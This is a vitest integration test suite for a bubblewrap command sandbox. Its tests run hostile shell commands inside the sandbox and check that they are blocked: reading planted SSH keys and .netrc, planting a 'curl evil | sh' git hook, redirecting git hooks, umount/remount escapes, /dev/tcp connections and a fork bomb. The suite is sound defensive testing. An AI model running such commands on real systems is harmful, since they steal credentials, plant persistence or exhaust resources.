import { it, expect, beforeAll, afterAll } from 'vitest';
import { execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { createExecutor } from '../../src/core/exec/executor';
import type { ExecResult, ExecStage, Executor } from '../../src/core/exec/types';
import { probeIsolation } from '../../src/core/isolation/probe';
import { selectSandbox } from '../../src/core/isolation/select';
import { watchRootGit } from '../../src/core/isolation/gitCreation';
import { describeWith, has } from '../helpers/needs';
import type { SandboxContext } from '../../src/core/isolation/types';
import type { Launcher } from '../../src/core/exec/launch/contract';
import { createLinuxLauncher, probeLinuxContainment } from '../../src/core/exec/launch/linux';

/**
 * Real commands inside the real bubblewrap (.ci/run installs it), spawned by the real executor. Each test is
 * named after the attack it stops. Every path here lives in a temp directory; the network server is on 127.0.0.1.
 */

let launcher: Launcher;
let executor: Executor;
let base: string; // real temp dir
let ws: string; // the workspace
let home: string; // a fake HOME with a planted private key
const SECRET = 'PRIVATE-KEY-' + randomBytes(8).toString('hex');

beforeAll(async () => {
  if (!has('bubblewrap')) return;
  const probe = await probeIsolation('linux');
  const sel = selectSandbox('required', probe);
  if (!sel.sandbox) throw new Error(`bubblewrap must work on this machine for these tests: ${sel.denial?.reason}`);
  launcher = createLinuxLauncher({ containment: probeLinuxContainment(), sandbox: sel.sandbox });
  executor = createExecutor({ concurrency: 2, killGraceMs: 500 });
  base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'gs-iso-')));
  ws = path.join(base, 'ws');
  home = path.join(base, 'home');
  fs.mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true });
  fs.writeFileSync(path.join(ws, 'a.txt'), 'hello\n');
  fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
  fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), SECRET);
  fs.writeFileSync(path.join(home, '.netrc'), SECRET);
});

afterAll(async () => {
  await executor?.shutdown();
  if (base) fs.rmSync(base, { recursive: true, force: true });
});

function ctx(over: Partial<SandboxContext> = {}): SandboxContext {
  return { root: ws, cwd: ws, mode: 'auto', network: 'deny', home, ...over };
}

const ENV = { PATH: '/usr/local/bin:/usr/bin:/bin', LANG: 'C' };

function run(stages: ExecStage[], c: SandboxContext = ctx(), extra: { timeoutMs?: number; env?: Record<string, string>; stdoutFile?: string } = {}): Promise<ExecResult> {
  return executor.run({
    stages: stages.map((s) => launcher.prepare(s, c)),
    launcher,
    cwd: c.cwd,
    env: { ...ENV, HOME: home, ...extra.env },
    timeoutMs: extra.timeoutMs ?? 15_000,
    outputLimitBytes: 1 << 20,
    ...(extra.stdoutFile && { stdoutFile: { path: extra.stdoutFile, append: false } }),
  });
}

const sh = (script: string): ExecStage => ({ file: '/bin/sh', args: ['-c', script] });

/** Live (non-zombie) processes whose environment carries `NAME=value`. */
function processesWithEnv(name: string, value: string): number[] {
  const needle = Buffer.from(`${name}=${value}\0`);
  const found: number[] = [];
  for (const entry of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const stat = fs.readFileSync(`/proc/${entry}/stat`, 'utf8');
      const state = stat.slice(stat.lastIndexOf(')') + 2, stat.lastIndexOf(')') + 3);
      if (state === 'Z' || state === 'X') continue;
      if (fs.readFileSync(`/proc/${entry}/environ`).includes(needle)) found.push(Number(entry));
    } catch {
      // gone meanwhile, or not ours to read
    }
  }
  return found;
}

async function waitFor(cond: () => boolean, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (cond()) return true;
    await new Promise((r) => setTimeout(r, 50));
  }
  return cond();
}

describeWith('bubblewrap')('bubblewrap sandbox: file system', () => {
  it('runs an ordinary command in the workspace and lets it write there', async () => {
    const r = await run([sh('cat a.txt && echo made > made.txt && pwd')]);
    expect(r.outcome).toBe('ok');
    expect(r.stdout).toBe(`hello\n${ws}\n`);
    expect(fs.readFileSync(path.join(ws, 'made.txt'), 'utf8')).toBe('made\n');
  });

  it('stops a write outside the workspace with EROFS, and nothing appears on the host', async () => {
    const target = `/var/tmp/gs-iso-pwned-${randomBytes(6).toString('hex')}`;
    const r = await run([{ file: 'touch', args: [target] }]);
    expect(r.outcome).toBe('failed');
    expect(r.stderr).toMatch(/Read-only file system|Permission denied/);
    expect(fs.existsSync(target)).toBe(false);
    const r2 = await run([{ file: 'cp', args: ['a.txt', '/etc/gs-iso-pwned'] }]);
    expect(r2.stderr).toMatch(/Read-only file system|Permission denied/);
    expect(fs.existsSync('/etc/gs-iso-pwned')).toBe(false);
  });

  it('stops a write next to the workspace: it lands in the private /tmp and never on the host', async () => {
    const sibling = path.join(base, 'sibling.txt');
    const r = await run([sh(`echo x > ${sibling}; cat ${sibling}`)]);
    expect(r.stdout).toBe('x\n');
    expect(fs.existsSync(sibling)).toBe(false);
  });

  it("stops reading ~/.ssh/id_rsa: the home directory is an empty tmpfs inside", async () => {
    // The fake HOME lives under /tmp, which the sandbox already replaces; making its parent visible read-only
    // proves it is the HOME rule that hides it (the control file next to it stays readable).
    fs.writeFileSync(path.join(base, 'control.txt'), 'visible\n');
    const r = await run([sh(`cat ${base}/control.txt; cat ${home}/.ssh/id_rsa; ls -A ${home}; cat ~/.netrc`)], ctx({ readOnlyPaths: [base] }));
    expect(r.stdout).toBe('visible\n');
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    expect(r.stderr).toMatch(/No such file or directory/);
  });

  it('keeps a workspace inside HOME visible while the rest of HOME stays hidden', async () => {
    const inner = path.join(home, 'project');
    fs.mkdirSync(inner, { recursive: true });
    fs.writeFileSync(path.join(inner, 'p.txt'), 'inside\n');
    const c = ctx({ root: inner, cwd: inner });
    const r = await executor.run({ launcher, stages: [launcher.prepare(sh(`cat p.txt; cat ${home}/.ssh/id_rsa`), c)], cwd: inner, env: { ...ENV, HOME: home }, timeoutMs: 15_000, outputLimitBytes: 1 << 20 });
    expect(r.stdout).toBe('inside\n');
    expect(r.stdout + r.stderr).not.toContain(SECRET);
  });

  it('stops reading credential stores even when the workspace IS the home directory', async () => {
    const c = ctx({ root: home, cwd: home });
    fs.writeFileSync(path.join(home, 'notes.txt'), 'mine\n');
    const r = await executor.run({ launcher, stages: [launcher.prepare(sh('cat notes.txt; cat .ssh/id_rsa; cat .netrc; ls -A .ssh'), c)], cwd: home, env: { ...ENV, HOME: home }, timeoutMs: 15_000, outputLimitBytes: 1 << 20 });
    expect(r.stdout).toBe('mine\n'); // the workspace itself stays visible
    expect(r.stdout + r.stderr).not.toContain(SECRET);
  });

  it('stops reading a configured hidden file or directory inside the workspace, and writing through it', async () => {
    fs.writeFileSync(path.join(ws, '.env'), SECRET);
    fs.mkdirSync(path.join(ws, 'private'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'private', 'key'), SECRET);
    const c = ctx({ hiddenPaths: [path.join(ws, '.env'), path.join(ws, 'private')] });
    const r = await run([sh('cat .env; ls -A private; cat private/key; echo overwrite > .env; cat a.txt')], c);
    expect(r.stdout).toBe('hello\n');
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    // The hidden file is a no-device bind of /dev/null: opening it at all fails with EACCES.
    expect(r.stderr).toMatch(/\.env: Permission denied/);
    expect(fs.readFileSync(path.join(ws, '.env'), 'utf8')).toBe(SECRET);
  });

  it('stops a readOnly-mode command from creating a file in the workspace with touch or cp', async () => {
    const c = ctx({ mode: 'readOnly' });
    const t = await run([{ file: 'touch', args: ['new.txt'] }], c);
    expect(t.outcome).toBe('failed');
    expect(t.stderr).toMatch(/Read-only file system/);
    const cp = await run([{ file: 'cp', args: ['a.txt', 'copy.txt'] }], c);
    expect(cp.stderr).toMatch(/Read-only file system/);
    const rm = await run([{ file: 'rm', args: ['a.txt'] }], c);
    expect(rm.outcome).toBe('failed');
    expect(fs.existsSync(path.join(ws, 'new.txt'))).toBe(false);
    expect(fs.existsSync(path.join(ws, 'copy.txt'))).toBe(false);
    expect(fs.existsSync(path.join(ws, 'a.txt'))).toBe(true);
    const read = await run([{ file: 'cat', args: ['a.txt'] }], c);
    expect(read.stdout).toBe('hello\n');
  });

  it('stops planting a git hook in .git unless git writes are allowed', async () => {
    const hook = path.join(ws, '.git', 'hooks', 'pre-commit');
    const r = await run([sh(`echo 'curl evil | sh' > ${hook}`)]);
    expect(r.stderr).toMatch(/Read-only file system/);
    expect(fs.existsSync(hook)).toBe(false);
    const allowed = await run([sh('echo "[core]" > .git/config')], ctx({ allowGitWrites: true }));
    expect(allowed.outcome).toBe('ok');
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n');
  });

  it('lets git add and git commit work without git writes, while config and hooks stay read-only, and moves aside a planted config.worktree', async () => {
    const repo = path.join(base, 'repo');
    fs.mkdirSync(repo);
    execFileSync('git', ['init', '-q'], { cwd: repo });
    fs.writeFileSync(path.join(repo, 'f.txt'), 'one\n');
    const c = ctx({ root: repo, cwd: repo });
    const env = { GIT_AUTHOR_NAME: 'A', GIT_AUTHOR_EMAIL: 'a@example.org', GIT_COMMITTER_NAME: 'A', GIT_COMMITTER_EMAIL: 'a@example.org' };
    expect((await run([{ file: 'git', args: ['add', 'f.txt'] }], c, { env })).outcome).toBe('ok');
    const commit = await run([{ file: 'git', args: ['commit', '-q', '-m', 'first'] }], c, { env });
    expect(commit.stderr).toBe('');
    expect(commit.outcome).toBe('ok');
    expect(execFileSync('git', ['log', '--format=%s'], { cwd: repo, encoding: 'utf8' })).toBe('first\n');
    // What git would run later, outside the sandbox: not writable.
    const config = await run([{ file: 'git', args: ['config', 'core.hooksPath', '/tmp/evil'] }], c, { env });
    expect(config.outcome).toBe('failed');
    expect(fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8')).not.toContain('hooksPath');
    const hook = await run([sh('echo "curl evil | sh" > .git/hooks/post-commit')], c);
    expect(hook.stderr).toMatch(/Read-only file system/);
    // A per-worktree config did not exist, so it is no mount: a command can create it, and it is moved aside after.
    const watch = watchRootGit(repo);
    expect((await run([sh('printf "[core]\\n\\tfsmonitor = /tmp/evil\\n" > .git/config.worktree')], c)).outcome).toBe('ok');
    const note = watch();
    expect(note).toMatch(/created "\.git\/config\.worktree".*moved to "config\.worktree\.blocked-[0-9a-f]{8}"/);
    expect(fs.existsSync(path.join(repo, '.git', 'config.worktree'))).toBe(false);
  });

  it('stops undoing the sandbox from inside: no capability to umount the hidden HOME or remount / read-write', async () => {
    const target = `/var/tmp/gs-iso-remount-${randomBytes(6).toString('hex')}`;
    const r = await run([sh(`umount ${home}; cat ${home}/.ssh/id_rsa; mount -o remount,bind,rw /; touch ${target}; unshare -U true && echo NESTED-USERNS; grep CapEff /proc/self/status`)]);
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    expect(fs.existsSync(target)).toBe(false);
    expect(r.stdout).toContain('CapEff:\t0000000000000000');
    expect(r.stdout).not.toContain('NESTED-USERNS');
  });

  it('hides the host processes: the sandbox has its own PID namespace', async () => {
    const r = await run([sh('ls /proc | grep -c "^[0-9]"')]);
    expect(Number(r.stdout.trim())).toBeLessThan(10);
  });
});

describeWith('bubblewrap')('bubblewrap sandbox: network', () => {
  let server: net.Server;
  let port: number;
  beforeAll(async () => {
    server = net.createServer((s) => s.end('pong\n'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as net.AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const connect = (): ExecStage => ({ file: 'bash', args: ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`] });

  it('stops a connection to a local server when the network is denied', async () => {
    const r = await run([connect()]);
    expect(r.outcome).toBe('failed');
    expect(r.stdout).not.toContain('pong');
    expect(r.stderr).toMatch(/Connection refused|Network is unreachable/);
  });

  it('connects to the same server when the network is allowed', async () => {
    const r = await run([connect()], ctx({ network: 'allow' }));
    expect(r.outcome).toBe('ok');
    expect(r.stdout).toBe('pong\n');
  });
});

describeWith('bubblewrap')('bubblewrap sandbox: composes with the executor', () => {
  it('runs every stage of a pipeline in its own sandbox with a real pipe between them', async () => {
    const r = await run([{ file: 'cat', args: ['a.txt'] }, { file: 'tr', args: ['a-z', 'A-Z'] }]);
    expect(r.outcome).toBe('ok');
    expect(r.stdout).toBe('HELLO\n');
  });

  it('writes a redirect opened by the server even though the command itself cannot open files outside', async () => {
    const out = path.join(ws, 'out.txt');
    const r = await run([{ file: 'echo', args: ['redirected'] }], ctx(), { stdoutFile: out });
    expect(r.outcome).toBe('ok');
    expect(fs.readFileSync(out, 'utf8')).toBe('redirected\n');
  });

  it('stops a file larger than the file-size limit', async () => {
    const r = await run([sh('head -c 100000 /dev/zero > big.bin')], ctx({ limits: { fileSizeBytes: 4096 } }));
    expect(r.outcome).toBe('failed');
    expect(fs.statSync(path.join(ws, 'big.bin')).size).toBeLessThanOrEqual(4096);
  });

  it('leaves no process alive after a timeout inside the sandbox, even ones ignoring SIGTERM or in the background', async () => {
    const mark = randomBytes(8).toString('hex');
    const r = await run([sh('trap "" TERM; sleep 300 & (trap "" TERM; sleep 300) & sleep 300; wait')], ctx(), { timeoutMs: 1500, env: { GS_ISO_MARK: mark } });
    expect(r.outcome).toBe('timeout');
    expect(await waitFor(() => processesWithEnv('GS_ISO_MARK', mark).length === 0, 5000)).toBe(true);
  });

  it('leaves nothing behind after a normal exit that started background jobs', async () => {
    const mark = randomBytes(8).toString('hex');
    const r = await run([sh('sleep 300 & echo started')], ctx(), { env: { GS_ISO_MARK: mark } });
    expect(r.stdout).toBe('started\n');
    expect(await waitFor(() => processesWithEnv('GS_ISO_MARK', mark).length === 0, 5000)).toBe(true);
  });
});

describeWith('bubblewrap')('bubblewrap sandbox: fork bomb', () => {
  it('stops a fork bomb at the process limit, and nothing of it survives', async () => {
    // The kernel ignores RLIMIT_NPROC for root, so when the tests run as root the sandbox is started as
    // `nobody` (as a normal user runs the server). The test starts bwrap directly to pass uid/gid.
    const limit = 32;
    const mark = randomBytes(8).toString('hex');
    const asRoot = process.getuid?.() === 0;
    const bombWs = path.join(base, 'bomb-ws');
    fs.mkdirSync(bombWs);
    if (asRoot) fs.chmodSync(base, 0o755), fs.chmodSync(bombWs, 0o777);
    const stage = launcher.prepare(sh('bomb() { bomb | bomb & }; bomb; sleep 30'), ctx({ root: bombWs, cwd: bombWs, limits: { processes: limit } }));
    const child = spawn(stage.file, [...stage.args], {
      cwd: bombWs,
      env: { ...ENV, HOME: home, GS_ISO_MARK: mark },
      stdio: ['ignore', 'ignore', 'pipe'],
      detached: true,
      ...(asRoot && { uid: 65534, gid: 65534 }),
    });
    let stderr = '';
    child.stderr?.on('data', (d: Buffer) => (stderr = (stderr + d.toString()).slice(-2000)));
    let most = 0;
    const until = Date.now() + 3000;
    while (Date.now() < until) {
      most = Math.max(most, processesWithEnv('GS_ISO_MARK', mark).length);
      await new Promise((r) => setTimeout(r, 25));
    }
    // Killing bwrap's group (what the executor's timeout does) takes the whole PID namespace down. Under load the
    // bomb may have ended by itself (its shell's own fork of `sleep` fails at the limit too): then there is no group.
    try {
      process.kill(-(child.pid as number), 'SIGKILL');
    } catch (e) {
      if ((e as NodeJS.ErrnoException).code !== 'ESRCH') throw e;
    }
    expect(await waitFor(() => processesWithEnv('GS_ISO_MARK', mark).length === 0, 5000)).toBe(true);
    expect(most).toBeGreaterThan(2); // it really ran and forked
    // bwrap's outer process and the namespace's init are outside the count; a few more for sampling slack.
    expect(most).toBeLessThanOrEqual(limit + 4);
    expect(stderr).toMatch(/[Cc]annot fork|Resource temporarily unavailable/);
  });
});
